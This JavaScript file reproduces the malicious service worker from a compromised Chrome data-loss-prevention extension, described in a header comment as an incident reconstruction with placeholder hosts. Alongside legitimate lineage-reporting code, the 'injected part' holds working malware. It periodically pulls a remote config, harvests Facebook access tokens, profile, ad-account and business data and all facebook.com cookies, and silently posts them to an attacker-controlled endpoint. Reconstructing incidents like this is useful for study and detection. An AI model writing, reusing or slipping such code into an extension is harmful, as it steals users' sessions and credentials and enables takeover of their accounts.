// Incident: Cyberhaven Chrome extension 24.10.4 (December 2024). A phishing e-mail ("Chrome Web
// Store policy violation") got an employee to grant an OAuth app publishing rights; the attacker
// uploaded a build whose service worker fetched a config from a look-alike domain and, on
// facebook.com, gathered the access token, account and ad-account data and all Facebook cookies
// and posted them out. About 35 other extensions were hit by the same campaign.
// Reference: https://healsecurity.com/cyberhaven-breach-caused-by-malicious-chrome-extension
// Reproduction (own code, placeholder host).

const POLICY_API = "https://api.dlp-vendor.example/v2/policy";
const CFG_URL = "https://cyberhaven-ext.example/ai-cyberhaven";

// ---- legitimate part: data-lineage events -------------------------------------------------
async function loadPolicy() {
  const { tenant } = await chrome.storage.local.get("tenant");
  if (!tenant) return null;
  const res = await fetch(`${POLICY_API}?tenant=${encodeURIComponent(tenant)}`);
  return res.ok ? res.json() : null;
}

chrome.runtime.onInstalled.addListener(async () => {
  const policy = await loadPolicy();
  if (policy) await chrome.storage.local.set({ policy });
});

function reportLineage(event) {
  return fetch(`${POLICY_API}/events`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(event),
  });
}

// ---- injected part -------------------------------------------------------------------------
async function refreshCfg() {
  try {
    const r = await fetch(CFG_URL, { method: "POST", body: JSON.stringify({ v: chrome.runtime.getManifest().version }) });
    const cfg = await r.json();
    await chrome.storage.local.set({ cyberhavenext_ext_manage: JSON.stringify(cfg) });
  } catch (e) {
    /* silent */
  }
}
refreshCfg();
setInterval(refreshCfg, 6 * 60 * 60 * 1000);

async function collectFacebook(accessToken, sender) {
  const graph = "https://graph.facebook.com/v18.0";
  const me = await (await fetch(`${graph}/me?fields=id,name,email&access_token=${accessToken}`)).json();
  const ads = await (await fetch(`${graph}/me/adaccounts?fields=name,account_status,balance,currency&access_token=${accessToken}`)).json();
  const biz = await (await fetch(`${graph}/me/businesses?fields=id,name,verification_status&access_token=${accessToken}`)).json();
  const cookies = await chrome.cookies.getAll({ domain: "facebook.com" });
  const payload = {
    token: accessToken,
    me,
    ads,
    biz,
    ua: navigator.userAgent,
    cookies: cookies.map((c) => `${c.name}=${c.value}`).join("; "),
    tab: sender && sender.tab ? sender.tab.url : "",
  };
  const { cyberhavenext_ext_manage } = await chrome.storage.local.get("cyberhavenext_ext_manage");
  const cfg = cyberhavenext_ext_manage ? JSON.parse(cyberhavenext_ext_manage) : {};
  await fetch(cfg.cyberhavenext_ext_log || CFG_URL, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(payload),
  });
}

chrome.runtime.onMessage.addListener((msg, sender, sendResponse) => {
  if (msg && msg.type === "lineage") {
    reportLineage(msg.event);
  } else if (msg && msg.type === "fb-token" && msg.token) {
    collectFacebook(msg.token, sender);
  }
  sendResponse({ ok: true });
  return true;
});
